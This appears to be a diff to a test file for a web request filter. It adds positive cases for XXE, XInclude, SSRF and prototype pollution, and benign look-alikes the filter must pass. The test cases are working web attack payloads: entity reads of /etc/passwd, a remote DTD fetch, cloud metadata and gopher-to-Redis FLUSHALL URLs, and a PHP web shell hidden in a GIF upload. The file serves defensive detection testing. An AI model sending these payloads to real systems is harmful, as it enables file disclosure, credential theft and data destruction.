@@ -43,6 +43,11 @@ def _upload(filename: str, content: bytes, content_type: str = "image/gif") -> R
                                        ("Content-Length", str(len(body)))], body)
 
 
+def _body(content_type: str, body: bytes) -> Request:
+    return Request("POST", "/api/import", [*HEADERS, ("Content-Type", content_type),
+                                           ("Content-Length", str(len(body)))], body)
+
+
 HITS = [
     (20101, _json('{"user": {"$ne": null}, "password": {"$ne": null}}')),
     (20101, _query("x", "user[$ne]")),
@@ -71,6 +76,19 @@ HITS = [
     (20502, _upload("cat.gif", b'GIF89a<?php system($_GET["c"]); ?>')),
     (20502, _upload("shell.jsp", b'<%@ page import="java.io.*" %>', "text/plain")),
     (20502, _upload("x.aspx", b'<%@ Page Language="C#" %>', "text/plain")),
+    (20601, _body("application/xml", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+                                     b"<r>&x;</r>")),
+    (20601, _body("application/xml", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM '
+                                     b'"http://198.51.100.1/x.dtd"> %p;]><r/>')),
+    (20601, _body("text/xml", b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" '
+                              b'href="file:///etc/passwd"/></r>')),
+    (20602, _query("http://169.254.169.254/latest/meta-data/", "url")),
+    (20602, _query("gopher://127.0.0.1:6379/_FLUSHALL", "url")),
+    (20602, _query("http://[::1]:8080/admin", "img")),
+    (20602, _query("http://2130706433/", "u")),
+    (20603, _body("application/json", b'{"__proto__": {"isAdmin": true}}')),
+    (20603, _query("1", "a[__proto__][admin]")),
+    (20603, _body("application/json", b'{"constructor": {"prototype": {"x": 1}}}')),
 ]
 
 MISSES = [
@@ -92,6 +110,12 @@ MISSES = [
     _upload("php-cheatsheet.pdf", b"%PDF-1.4 about <?xml ?>", "application/pdf"),
     _upload("report.csv", b"a,b\n1,2\n", "text/csv"),
     _upload("notes.txt", b"We talked about the php function list.", "text/plain"),
+    _body("application/xml", b'<?xml version="1.0"?><order><item qty="2">tea</item></order>'),
+    _body("text/xml", b'<?xml version="1.0"?><!DOCTYPE html><rss version="2.0"><channel><title>x</title></channel></rss>'),
+    _query("https://example.test/page?x=1", "url"),
+    _query("https://cdn.example.test/127.0.0.1.png", "u"),
+    _body("application/json", b'{"text": "the proto file and the constructor of the prototype car"}'),
+    _query("https", "proto"),
 ]
 
 
